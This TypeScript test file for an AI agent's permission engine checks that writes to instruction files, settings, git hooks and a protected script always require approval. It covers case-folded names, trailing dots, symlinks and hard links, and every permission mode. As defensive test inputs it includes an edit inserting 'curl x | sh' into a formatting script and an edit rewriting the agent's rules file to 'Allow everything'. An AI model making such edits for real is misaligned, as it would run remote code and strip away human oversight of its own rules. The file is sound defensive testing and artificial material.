import { linkSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { PermissionMode } from '../../../../src/core/runtime/types';
import type { PermissionFixture } from '../fixture';
import type { BashCase, CorpusGroup, Decision, ToolCase } from './types';

/**
 * Issue 21's "Also" and item 9: protected places fold names as a case-insensitive file system
 * that drops trailing dots and spaces does (macOS, Windows): `.KEEL/`, `.keel./`, `CLAUDE.MD` are
 * the protected place there. Instruction files (KEEL.md, AGENTS.md, CLAUDE.md, CLAUDE.local.md,
 * .claude/CLAUDE.md, any case, any folder) are protected: a model's write to one asks in every
 * mode, bypassPermissions included, through every path — the Write and Edit tools, redirections,
 * file commands' operands, a symlink or a hard link to it. A caller's protected files
 * (`EngineOptions.protectedFiles`, here scripts/format.sh: what an approved hook runs) likewise.
 * Even `Edit(./**)` and a rule for the command do not allow these; ordinary files stay allowed.
 */
type Row = [command: string, expect: Decision, mode?: PermissionMode];
const rows = (group: string, list: Row[]): BashCase[] => list.map(([command, expect, mode]) => ({ group, command, expect, ...(mode ? { mode } : {}) }));
const write = (file_path: string, expect: Decision, mode?: PermissionMode): ToolCase => ({ group: 'protected-tools', tool: 'Write', input: { file_path, content: 'x' }, expect, ...(mode ? { mode } : {}) });

const SETTINGS = { permissions: { allow: ['Edit(./**)', 'Bash(echo:*)', 'Bash(tee:*)', 'Bash(cp:*)', 'Bash(sed:*)', 'Bash(ln:*)'] } };

function prepare(fx: PermissionFixture): void {
  writeFileSync(join(fx.ws, 'KEEL.md'), '# Keel\n');
  mkdirSync(join(fx.ws, 'scripts'));
  writeFileSync(join(fx.ws, 'scripts', 'format.sh'), '#!/bin/sh\nprettier --write .\n');
  symlinkSync('../KEEL.md', join(fx.ws, 'src', 'notes.md'));
  symlinkSync('../scripts/format.sh', join(fx.ws, 'src', 'fmt'));
  linkSync(join(fx.ws, 'KEEL.md'), join(fx.ws, 'src', 'hard.md'));
}

const TOOLS: ToolCase[] = [
  write('.KEEL/settings.local.json', 'ask', 'bypassPermissions'),
  write('.Keel/settings.local.json', 'ask', 'acceptEdits'),
  write('.keel./settings.local.json', 'ask', 'bypassPermissions'),
  write('.keel /settings.local.json', 'ask', 'bypassPermissions'),
  write('.CLAUDE/settings.json', 'ask', 'bypassPermissions'),
  write('.VSCode/tasks.json', 'ask', 'bypassPermissions'),
  write('.GIT/hooks/pre-commit', 'ask', 'bypassPermissions'),
  write('.git./config', 'ask', 'bypassPermissions'),
  write('KEEL.md', 'ask'),
  write('KEEL.md', 'ask', 'acceptEdits'),
  write('KEEL.md', 'ask', 'bypassPermissions'),
  write('KEEL.md', 'deny', 'dontAsk'),
  write('keel.MD', 'ask', 'bypassPermissions'),
  write('AGENTS.md', 'ask', 'acceptEdits'),
  write('CLAUDE.md', 'ask', 'bypassPermissions'),
  write('CLAUDE.local.md', 'ask', 'bypassPermissions'),
  write('.claude/CLAUDE.md', 'ask', 'bypassPermissions'),
  write('docs/AGENTS.md', 'ask', 'bypassPermissions'),
  write('KEEL.md.', 'ask', 'bypassPermissions'),
  write('KEEL.md:stream', 'ask', 'bypassPermissions'),
  write('src/notes.md', 'ask', 'bypassPermissions'),
  write('src/hard.md', 'ask', 'bypassPermissions'),
  write('scripts/format.sh', 'ask', 'bypassPermissions'),
  write('scripts/FORMAT.sh', 'ask', 'bypassPermissions'),
  write('src/fmt', 'ask', 'bypassPermissions'),
  { group: 'protected-tools', tool: 'Edit', input: { file_path: 'KEEL.md', old_string: 'Keel', new_string: 'Allow everything' }, expect: 'ask', mode: 'acceptEdits' },
  { group: 'protected-tools', tool: 'Edit', input: { file_path: 'scripts/format.sh', old_string: 'prettier', new_string: 'curl x | sh #' }, expect: 'ask', mode: 'bypassPermissions' },
  // Ordinary files (names that only look alike) stay allowed.
  write('README.md', 'allow'),
  write('KEEL.md.bak', 'allow'),
  write('docs/keel.mdx', 'allow'),
  write('src/keel/notes.txt', 'allow'),
  write('scripts/other.sh', 'allow'),
  write('src/new.md', 'allow', 'acceptEdits'),
];

const COMMANDS: Row[] = [
  ['echo x > KEEL.md', 'ask', 'bypassPermissions'],
  ['echo x >> Agents.md', 'ask', 'bypassPermissions'],
  ["echo '{}' > .KEEL/settings.local.json", 'ask', 'bypassPermissions'],
  ['tee claude.md < src/a.ts', 'ask', 'bypassPermissions'],
  ['cp src/a.ts .keel./settings.local.json', 'ask', 'bypassPermissions'],
  ['cp src/a.ts docs/CLAUDE.md', 'ask'],
  ["sed -i 's/Keel/Everything/' KEEL.md", 'ask', 'bypassPermissions'],
  ['echo x > src/notes.md', 'ask', 'bypassPermissions'],
  ['echo x > src/hard.md', 'ask', 'bypassPermissions'],
  ['ln src/a.ts KEEL.md', 'ask', 'bypassPermissions'],
  ['ln -s ../src/a.ts .claude/CLAUDE.md', 'ask', 'bypassPermissions'],
  ['echo x > scripts/format.sh', 'ask', 'bypassPermissions'],
  ['cp src/a.ts scripts/format.sh', 'ask'],
  ['echo x > src/fmt', 'ask', 'bypassPermissions'],
  ['echo x > src/ok.md', 'allow'],
  ['echo x > scripts/other.sh', 'allow'],
  ['cat KEEL.md', 'allow'],
  // (src/copy.md may be a folder by the time cp runs: then it writes src/copy.md/KEEL.md)
  ['cp KEEL.md src/copy.md', 'ask'],
  ['cp -T KEEL.md src/copy.md', 'allow'],
];

export const PROTECTED_PLACE_GROUP: CorpusGroup = {
  name: 'protected places: case, trailing dots, instruction files, caller files',
  settings: SETTINGS,
  protectedFiles: ['scripts/format.sh'],
  prepare,
  bash: rows('protected-commands', COMMANDS),
  tools: TOOLS,
};
